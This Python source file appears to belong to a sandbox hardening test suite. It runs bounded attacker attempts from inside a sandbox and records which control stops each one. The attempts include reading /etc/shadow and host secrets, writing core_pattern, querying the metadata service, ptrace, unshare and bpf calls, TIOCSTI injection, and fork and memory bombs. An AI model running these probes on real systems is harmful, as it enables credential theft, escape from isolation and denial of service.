"""What an attacker would try from inside a sandbox: one attempt a function, plain to read.

Run by ``hostile.py``, inside. It refuses to run anywhere else, and every attempt is bounded and
stops short of damage, so that even a broken sandbox is only shown to be broken.

Each attempt returns what it gained (a text), returns nothing when there was nothing to find, or is
stopped by an error. ``hostile.py`` has laid real bait outside: a secret file, a secret variable, an
open descriptor, a listening socket, a running process. Only hashes of the secrets come inside.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import hashlib
import json
import os
import platform
import pty
import resource
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import termios
import time
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any, NoReturn

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

Bait = dict[str, Any]
SECONDS_PER_ATTEMPT = 20
LIBC = ctypes.CDLL(None, use_errno=True)

# Numbers of the system calls that have no wrapper in the C library: x86-64, AArch64.
SYSCALLS = {
    "add_key": (248, 217),
    "bpf": (321, 280),
    "init_module": (175, 105),
    "io_uring_setup": (425, 425),
    "perf_event_open": (298, 241),
    "process_vm_readv": (310, 270),
    "userfaultfd": (323, 282),
}
REFUSED = {errno.EPERM, errno.ENOSYS, errno.EACCES}


class StoppedError(Exception):
    """An attempt came to nothing, without an error from the kernel; the text says how."""


# Files of the host.


def read_shadow(_: Bait) -> str:
    """The host's password hashes."""
    return f"{len(Path('/etc/shadow').read_bytes())} bytes"


def read_secret_file(bait: Bait) -> str:
    """A world-readable secret on the host, by its path and by detours through /proc."""
    return _first_open(
        prefix + bait["file"] for prefix in ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../..")
    )


def list_homes(_: Bait) -> str | None:
    """SSH keys and cloud credentials live in home directories."""
    return _entries("/root", "/home")


def follow_own_link(bait: Bait) -> str:
    """A link in the workspace that points at the secret; hostile.py later asks the sandbox for "loot"."""
    link = Path("loot")
    link.symlink_to(bait["file"])
    return link.read_text(encoding="utf-8")


def find_shared_temporary(bait: Bait) -> str | None:
    """Temporary files are often shared between users."""
    names = [entry for place in ("/tmp", "/var/tmp", "/dev/shm") for entry in _listing(place)]
    return ", ".join(name for name in names if bait["token"] in name)


def write_usr(bait: Bait) -> str:
    """A changed program in /usr would run as the next user who calls it."""
    place = Path("/usr/bin") / f"hostile-{bait['token']}"
    place.write_text("#!/bin/sh\n", encoding="utf-8")
    place.unlink()
    return f"wrote {place}"


def write_passwd(_: Bait) -> str:
    """A second root account."""
    with Path("/etc/passwd").open("a", encoding="utf-8"):
        return "opened /etc/passwd for writing"


def write_root(bait: Bait) -> str:
    """Anything at the top level."""
    place = Path(f"/hostile-{bait['token']}")
    place.mkdir()
    place.rmdir()
    return f"made {place}"


def open_disk(_: Bait) -> str:
    """The raw disk below all file permissions."""
    return _first_open(("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg"))


def make_device(_: Bait) -> str:
    """If the disk's node is not there, make one."""
    place = Path(tempfile.gettempdir()) / "disk"
    os.mknod(place, 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    return f"made {place}"


def write_kernel_knob(_: Bait) -> str:
    """core_pattern names a program that the kernel runs as root, outside."""
    with Path("/proc/sys/kernel/core_pattern").open("r+", encoding="utf-8"):
        return "opened core_pattern for writing"


def press_sysrq(_: Bait) -> str:
    """One letter here reboots the machine."""
    with Path("/proc/sysrq-trigger").open("w", encoding="utf-8") as knob:
        knob.write("")
        return f"opened {knob.name} for writing" if not _is_null(knob.fileno()) else ""


def open_sys(_: Bait) -> str | None:
    """release_agent below /sys/fs/cgroup was a classic way out of containers."""
    return _entries("/sys/fs/cgroup", "/sys/kernel")


# Secrets left lying about.


def read_environment(bait: Bait) -> str | None:
    """Keys in variables, mine and those of every process that I can see."""
    pieces = [*os.environb.values()]
    for place in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            pieces += [piece.partition(b"=")[2] for piece in place.read_bytes().split(b"\0")]
    return "the secret variable" if any(_hash(piece) == bait["variable_hash"] for piece in pieces) else None


def read_descriptors(bait: Bait) -> str | None:
    """A file that my parent forgot to close."""
    for name in _listing("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if _hash(os.pread(int(name), 4096, 0)) == bait["file_hash"]:
                return f"the secret through descriptor {name}"
    return None


# The network.


def reach_host_port(bait: Bait) -> str:
    """A service on the host's own loopback."""
    return _connect(socket.AF_INET, ("127.0.0.1", bait["port"]))


def reach_host_socket(bait: Bait) -> str:
    """Abstract unix sockets have no file to hide; D-Bus and X11 use them."""
    return _connect(socket.AF_UNIX, "\0" + bait["abstract"])


def reach_metadata(_: Bait) -> str:
    """The cloud's metadata service hands out credentials."""
    return _connect(socket.AF_INET, ("169.254.169.254", 80))


def reach_private_network(_: Bait) -> str:
    """The neighbours in the data centre."""
    return _connect(socket.AF_INET, ("10.0.0.1", 443))


def leak_by_dns(_: Bait) -> str:
    """Data leaves in host names even where nothing else may."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret.example", ("192.0.2.53", 53))
    return "a datagram left"


def open_raw_socket(_: Bait) -> str:
    """Raw packets go round the firewall and sniff the wire."""
    return _all_refused(
        lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close(),
        lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(),
    )


def open_odd_sockets(_: Bait) -> str:
    """Seldom used socket families are where kernel bugs are: netlink, vsock, the kernel's crypto."""
    families = (socket.AF_NETLINK, socket.AF_VSOCK, socket.AF_ALG)
    return _all_refused(
        *(lambda family=family: socket.socket(family, socket.SOCK_DGRAM).close() for family in families)
    )


# Other processes.


def find_host_process(bait: Bait) -> str | None:
    """A process of the host, by its command line."""
    for place in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if bait["victim_name"].encode() in place.read_bytes():
                return str(place)
    return None


def signal_host_process(bait: Bait) -> str:
    """Signals by number; 0 asks only whether I could."""
    os.kill(bait["victim"], 0)
    return f"process {bait['victim']} can be signalled"


def trace_first_process(_: Bait) -> str:
    """Take over process 1, which talks to the outside."""
    return _kernel_answers(LIBC.ptrace(16, 1, None, None))


def read_first_process(_: Bait) -> str:
    """Or read its memory, or hold its descriptors."""
    return _all_refused(
        lambda: Path("/proc/1/mem").open("rb").close(),
        lambda: list(Path("/proc/1/fd").iterdir()),
        lambda: _syscall("process_vm_readv", 1, None, 0, None, 0, 0),
    )


def kill_first_process(_: Bait) -> NoReturn:
    """Without process 1 nobody would watch me."""
    os.kill(1, signal.SIGKILL)
    time.sleep(0.1)
    raise StoppedError("signal ignored")  # the kernel ends everything together with process 1, and I am here


# The kernel.


def become_root(_: Bait) -> str:
    """Ask."""
    os.setuid(0)
    return f"uid {os.getuid()}"


def run_setuid_program(_: Bait) -> str:
    """The program su runs as root before it asks for a password."""
    with subprocess.Popen(
        ["su"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as process:
        for _attempt in range(20):
            with contextlib.suppress(OSError, StopIteration):
                status = Path(f"/proc/{process.pid}/status").read_text(encoding="utf-8").splitlines()
                effective = next(line.split()[2] for line in status if line.startswith("Uid:"))
                if effective != str(os.getuid()):
                    process.kill()
                    return f"su runs with effective uid {effective}"
            time.sleep(0.01)
        process.kill()
    raise StoppedError("no privilege gained")


def mount_something(_: Bait) -> str:
    """A mount over /etc would change who I am."""
    return _kernel_answers(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None))


def make_namespace(_: Bait) -> str:
    """In a user namespace of my own I would be root again: many kernel exploits start here."""
    return _kernel_answers(LIBC.unshare(0x10000000))


def set_clock(_: Bait) -> str:
    """Logs with a wrong time are worth little; sets the time that it is."""
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "set the clock"


def set_host_name(_: Bait) -> str:
    """Names that others trust."""
    socket.sethostname("hostile")
    return "set the host name"


def use_io_uring(_: Bait) -> str:
    """io_uring does file and network work that filters never see."""
    return _syscall("io_uring_setup", 1, None)


def use_bpf(_: Bait) -> str:
    """Programs inside the kernel."""
    return _syscall("bpf", 0, None, 0)


def use_perf(_: Bait) -> str:
    """Performance counters: side channels, and a long list of past bugs."""
    return _syscall("perf_event_open", None, 0, -1, -1, 0)


def use_userfaultfd(_: Bait) -> str:
    """Holds the kernel still in the middle of a copy: the exploit writer's friend."""
    return _syscall("userfaultfd", 0)


def use_keyring(_: Bait) -> str:
    """Kernel keyrings are not namespaced: other users' keys are in there."""
    return _syscall("add_key", None, None, None, 0, -3)


def load_module(_: Bait) -> str:
    """Code in the kernel itself."""
    return _syscall("init_module", None, 0, b"")


def type_into_terminal(_: Bait) -> str:
    """TIOCSTI types a command into the terminal of whoever started me."""
    os.setsid()
    terminal = pty.openpty()[1]
    fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
    return "typed a letter"


# Using everything up.


def fork_bomb(bait: Bait) -> str:
    """Processes until nobody can start one; here four times the limit at most."""
    children: list[int] = []
    try:
        while len(children) < 4 * bait["processes"]:
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)
    return f"{len(children)} processes"


def memory_bomb(bait: Bait) -> str:
    """Memory until the machine dies; here four times the limit at most."""
    held: list[bytes] = []
    piece = 8 * 1024 * 1024
    while len(held) * piece < 4 * bait["memory"]:
        held.append(b"x" * piece)
    return f"{len(held) * piece} bytes of memory"


def fill_workspace(bait: Bait) -> str:
    """The disk until nobody can write; here four times the limit at most."""
    return _fill(Path("filler"), 4 * bait["disk"])


def fill_temporary(bait: Bait) -> str:
    """Other writable places, which are often forgotten."""
    for place in ("/dev/hostile", "/run/hostile", "/var/tmp/hostile"):
        with contextlib.suppress(OSError):
            return _fill(Path(place), 4 * bait["disk"])
    places = (Path("/tmp/hostile"), Path("/dev/shm/hostile"))
    return _all_refused(*(partial(_fill, place, 4 * bait["disk"]) for place in places))


def open_everything(bait: Bait) -> str:
    """Descriptors until the system's table is full; first lift my own limit."""
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (4 * bait["files"], 4 * bait["files"]))
    held: list[int] = []
    try:
        while len(held) < 3 * bait["files"]:
            held.append(os.open("/dev/null", os.O_RDONLY))
    finally:
        for descriptor in held:
            os.close(descriptor)
    return f"{len(held)} open files"


# What is tried, and which control should stop it.

ATTEMPTS: tuple[tuple[str, str, Callable[[Bait], str | None]], ...] = (
    ("read /etc/shadow", "fs.host-hidden", read_shadow),
    ("read a secret file of the host", "fs.host-hidden", read_secret_file),
    ("list home directories", "fs.host-hidden", list_homes),
    ("escape by a symbolic link", "fs.host-hidden", follow_own_link),
    ("find files in shared temporary places", "fs.private-tmp", find_shared_temporary),
    ("plant a program in /usr/bin", "fs.ro-root", write_usr),
    ("add a user to /etc/passwd", "fs.ro-root", write_passwd),
    ("make a directory in /", "fs.ro-root", write_root),
    ("open raw disk and memory", "fs.devices", open_disk),
    ("make a device node", "syscall.capabilities", make_device),
    ("write /proc/sys/kernel/core_pattern", "fs.proc", write_kernel_knob),
    ("press SysRq", "fs.proc", press_sysrq),
    ("look into /sys", "fs.proc", open_sys),
    ("read secrets from environments", "process.environment", read_environment),
    ("read a forgotten descriptor", "process.descriptors", read_descriptors),
    ("connect to a host port", "net.default-deny", reach_host_port),
    ("connect to a host's abstract socket", "net.default-deny", reach_host_socket),
    ("ask the cloud's metadata service", "net.default-deny", reach_metadata),
    ("connect to 10.0.0.1", "net.default-deny", reach_private_network),
    ("leak data by DNS", "net.default-deny", leak_by_dns),
    ("open raw and packet sockets", "net.sockets", open_raw_socket),
    ("open netlink, vsock, alg sockets", "net.sockets", open_odd_sockets),
    ("find a host process", "process.isolation", find_host_process),
    ("signal a host process", "process.isolation", signal_host_process),
    ("ptrace process 1", "syscall.allowlist", trace_first_process),
    ("read memory and descriptors of process 1", "process.isolation", read_first_process),
    ("kill process 1", "process.isolation", kill_first_process),
    ("setuid(0)", "syscall.capabilities", become_root),
    ("run a setuid program", "syscall.no-new-privileges", run_setuid_program),
    ("mount", "syscall.capabilities", mount_something),
    ("unshare a user namespace", "syscall.no-nested-namespaces", make_namespace),
    ("set the clock", "syscall.capabilities", set_clock),
    ("set the host name", "syscall.capabilities", set_host_name),
    ("io_uring", "syscall.allowlist", use_io_uring),
    ("bpf", "syscall.allowlist", use_bpf),
    ("perf_event_open", "syscall.allowlist", use_perf),
    ("userfaultfd", "syscall.allowlist", use_userfaultfd),
    ("kernel keyring", "syscall.allowlist", use_keyring),
    ("load a kernel module", "syscall.allowlist", load_module),
    ("type into a terminal (TIOCSTI)", "syscall.terminal-injection", type_into_terminal),
    ("fork bomb", "resource.processes", fork_bomb),
    ("memory bomb", "resource.memory", memory_bomb),
    ("fill the workspace", "resource.disk", fill_workspace),
    ("fill other writable places", "resource.disk", fill_temporary),
    ("open thousands of files", "resource.open-files", open_everything),
)


# How an attempt is carried out and judged.


def carry_out(attempt: Callable[[Bait], str | None], bait: Bait) -> dict[str, str]:
    """Run one attempt in a process of its own and return what it gained or what stopped it."""
    receiver, sender = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(receiver)
        signal.alarm(SECONDS_PER_ATTEMPT)
        _in_child(attempt, bait, sender)
    os.close(sender)
    said = b""
    while piece := os.read(receiver, 65536):
        said += piece
    os.close(receiver)
    _, status = os.waitpid(child, 0)
    if said:
        outcome: dict[str, str] = json.loads(said)
        return outcome
    return {"gained": "", "stopped": signal.Signals(os.WTERMSIG(status)).name if os.WIFSIGNALED(status) else "exited"}


def _in_child(attempt: Callable[[Bait], str | None], bait: Bait, sender: int) -> NoReturn:
    outcome = {"gained": "", "stopped": "nothing to find"}
    try:
        outcome["gained"] = attempt(bait) or ""
    except OSError as error:
        outcome["stopped"] = errno.errorcode.get(error.errno or 0, type(error).__name__)
    except StoppedError as error:
        outcome["stopped"] = str(error)
    except Exception as error:  # noqa: BLE001  # a MemoryError, for one, is also a way of being stopped
        outcome["stopped"] = type(error).__name__
    os.write(sender, json.dumps(outcome).encode()[:4096])
    os._exit(0)


def _hash(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _listing(place: str) -> list[str]:
    with contextlib.suppress(OSError):
        return [entry.name for entry in Path(place).iterdir()]
    return []


def _entries(*places: str) -> str | None:
    return ", ".join(f"{place}/{name}" for place in places for name in _listing(place))[:100]


def _first_open(places: Iterable[str]) -> str:
    """Return the first place that can be read; raise what stopped the last."""
    stopped = OSError(errno.ENOENT, "nowhere")
    for place in places:
        try:
            with open(place, "rb") as file:  # noqa: PTH123  # paths through /proc must not be tidied up
                return f"{place}: {len(file.read(8))} bytes and more"
        except OSError as error:
            stopped = error
    raise stopped


def _all_refused(*works: Callable[[], object]) -> str:
    """Return what worked; raise what stopped the last when nothing did."""
    stopped: OSError | None = None
    for number, work in enumerate(works, 1):
        try:
            said = work()
        except OSError as error:
            stopped = error
        else:
            return f"way {number} worked: {said!s}"
    assert stopped is not None
    raise stopped


def _connect(family: int, address: Any) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(address)
    return f"connected to {address}"


def _syscall(name: str, *arguments: object) -> str:
    number = SYSCALLS[name][platform.machine() == "aarch64"]
    return _kernel_answers(LIBC.syscall(number, *arguments))


def _kernel_answers(answer: int) -> str:
    """Return what the kernel said; raise when it refused. A complaint about arguments means that it listened."""
    code = ctypes.get_errno()
    if answer == -1 and code in REFUSED:
        raise OSError(code, os.strerror(code))
    return f"the kernel answered {errno.errorcode.get(code, code) if answer == -1 else answer}"


def _fill(place: Path, limit: int) -> str:
    written = 0
    try:
        with place.open("wb", buffering=0) as file:
            while written < limit:
                written += file.write(b"x" * 1024 * 1024) or 0
    finally:
        place.unlink(missing_ok=True)
    return f"{written} bytes in {place.parent}"


def _is_null(descriptor: int) -> bool:
    return os.fstat(descriptor).st_rdev == os.makedev(1, 3)


def leave_something_running(bait: Bait) -> None:
    """A process that lets go of its parents and ignores all polite signals, to live on after the sandbox."""
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        nothing = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(nothing, descriptor)
        os.execvp("sleep", [bait["survivor"], "300"])


def flood(bait: Bait) -> None:
    """More output than anybody wants to read: four times the limit."""
    for _ in range(4 * bait["output"] // 65536):
        os.write(1, b"x" * 65536)


def inside(bait: Bait) -> bool:
    """Whether this is the sandbox that hostile.py made: its agent, and its host name."""
    return Path("/run/jubako/agent.pyc").exists() and platform.node() == bait["sandbox"]


def main() -> int:
    """Try everything; write one line of JSON an attempt to "report"."""
    bait: Bait = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8")) if len(sys.argv) == 2 else {"sandbox": ""}
    if not inside(bait):
        print("attacker: not inside a jubako sandbox; nothing was tried", file=sys.stderr)
        return 2
    with Path("report").open("w", encoding="utf-8") as report:
        for name, control, attempt in ATTEMPTS:
            line = {"name": name, "control": control, **carry_out(attempt, bait)}
            report.write(json.dumps(line) + "\n")
            report.flush()
    leave_something_running(bait)
    flood(bait)
    return 0


if __name__ == "__main__":
    sys.exit(main())
